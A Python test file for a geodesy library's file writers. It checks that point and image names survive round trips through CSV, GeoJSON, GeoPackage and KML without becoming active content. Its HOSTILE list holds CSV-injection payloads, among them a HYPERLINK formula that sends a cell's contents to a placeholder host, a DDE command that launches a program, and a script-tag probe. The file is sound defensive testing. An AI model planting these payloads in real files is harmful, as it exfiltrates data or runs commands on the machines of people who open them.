"""Names from files in tables, maps and globes: no cell of a CSV file is run, nothing is active, all come back.

Held against: OWASP's list of characters that begin a formula (https://owasp.org/www-community/attacks/CSV_Injection);
`csv`, `json`, an XML parser and SQLite, which read what others would.
"""

from __future__ import annotations

import csv
import json
import pathlib
import sqlite3
import xml.etree.ElementTree as ET
from typing import Any

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from jaxgeo import Geodetic, Pose
from jaxgeo._text_numbers import number_in
from jaxgeo.adjust import ImagePoints
from jaxgeo.io import (
    Orientations,
    read_image_points,
    read_orientations,
    write_fixes,
    write_image_points,
    write_orientations,
)
from jaxgeo.io._cells import plain_cell, safe_cell
from jaxgeo.io.tables import read_shots, write_csv
from tests.support.made_fixes import ALPS, made

STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
HOSTILE = (
    '=HYPERLINK("http://a.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+cmd|x", "-2+3", "@SUM(A1:A9)", "'=1", "''-x",
    "-", "--", "\uff1d1+1",
)  # fmt: skip
NAMES = (*HOSTILE, "a=b", "<script>alert(1)</script>", "'quoted'", "O'Hara", "-1.5", "a,b;c", 'the "third"')


@pytest.mark.costly
@given(st.text(max_size=8) | st.text("'=+-@\t\r\n01.,e", max_size=6))
def test_every_text_comes_back_and_none_is_run(text: str) -> None:
    written = safe_cell(text)
    assert plain_cell(written) == text
    is_number = number_in(text.replace(",", ".")) is not None
    assert written[:1] not in tuple(STARTS) or is_number


@pytest.mark.parametrize("value", [-1.5, 1, None, True, "-1.5", "+3e5", "-1,5", " -1", "-.5", "nan", "-9999"])
def test_numbers_are_left_as_they_are(value: Any) -> None:
    assert safe_cell(value) is value


def cells_of(path: pathlib.Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as file:
        return [cell for row in csv.reader(file) for cell in row]


def check_nothing_runs(path: pathlib.Path) -> None:
    for cell in cells_of(path):
        assert cell[:1] not in tuple(STARTS) or number_in(cell) is not None, cell


def test_image_points_come_back(tmp_path: pathlib.Path) -> None:
    path, names = tmp_path / "a.csv", np.array(NAMES)
    write_image_points(path, ImagePoints(names, names[::-1], -np.ones((len(names), 2))))
    check_nothing_runs(path)
    back = read_image_points(path)
    np.testing.assert_array_equal(back.image, names)
    np.testing.assert_array_equal(back.point, names[::-1])
    np.testing.assert_array_equal(back.uv, -1.0)


def test_orientations_come_back(tmp_path: pathlib.Path) -> None:
    path, names = tmp_path / "a.csv", np.array(NAMES)
    angles = np.full(len(names), -0.1)
    pose = Pose(Geodetic(lat=angles, lon=angles, height=-10.0 * np.ones(len(names))), angles, angles, angles)
    write_orientations(path, Orientations(names, pose, camera=names[::-1]))
    check_nothing_runs(path)
    back = read_orientations(path, height_datum="ellipsoid")
    np.testing.assert_array_equal(back.names, names)
    np.testing.assert_array_equal(back.camera, names[::-1])


def test_rows_that_are_carried_through_come_back(tmp_path: pathlib.Path) -> None:
    """Cells and names of columns of a table of shots, as it was and as the answer is written."""
    path = tmp_path / "a.csv"
    row = {
        "lat_deg": "-1.5",
        "lon_deg": "-2",
        "height_m": "-3",
        "heading_deg": "-4",
        "pitch_deg": "-5",
        "roll_deg": "-6",
    }
    rows = [{"name": name, "=note": other, **row} for name, other in zip(NAMES, NAMES[::-1], strict=True)]
    with open(path, "w", newline="", encoding="utf-8") as file:
        write_csv(rows, file)
    check_nothing_runs(path)
    back = read_shots(path, (), pixels=False)
    assert back.rows == rows
    again = tmp_path / "b.csv"
    with open(again, "w", newline="", encoding="utf-8") as file:
        write_csv(back.rows, file)
    assert again.read_bytes() == path.read_bytes()


def fixes_named(path: pathlib.Path) -> pathlib.Path:
    fixes = made(np.repeat(ALPS[:1], len(NAMES), axis=0))
    write_fixes(path, fixes, attributes=[{"name": name, "note": name} for name in NAMES])
    return path


def test_fixes_in_a_table(tmp_path: pathlib.Path) -> None:
    path = fixes_named(tmp_path / "a.csv")
    check_nothing_runs(path)
    with open(path, newline="", encoding="utf-8") as file:
        assert [plain_cell(row["name"]) for row in csv.DictReader(file)] == list(NAMES)


def test_fixes_in_formats_that_run_nothing_are_as_they_were(tmp_path: pathlib.Path) -> None:
    features = json.loads(fixes_named(tmp_path / "a.geojson").read_text(encoding="utf-8"))["features"]
    assert [one["properties"]["name"] for one in features] == list(NAMES)
    with sqlite3.connect(fixes_named(tmp_path / "a.gpkg")) as base:
        assert [name for (name,) in base.execute("SELECT name FROM fixes ORDER BY fid")] == list(NAMES)


def test_a_globe_shows_names_and_nothing_active(tmp_path: pathlib.Path) -> None:
    root = ET.fromstring(fixes_named(tmp_path / "a.kml").read_bytes())
    space = {"k": "http://www.opengis.net/kml/2.2"}
    places = root.findall(".//k:Placemark", space)
    assert [one.findtext("k:name", namespaces=space) for one in places] == list(NAMES)
    for place in places:
        shown = ET.fromstring(place.findtext("k:description", "", space))
        assert {one.tag for one in shown.iter()} <= {"table", "tr", "td", "th", "b", "p", "br"}
        assert not [one for one in shown.iter() if set(one.attrib) & {"href", "src", "onload", "onclick"}]
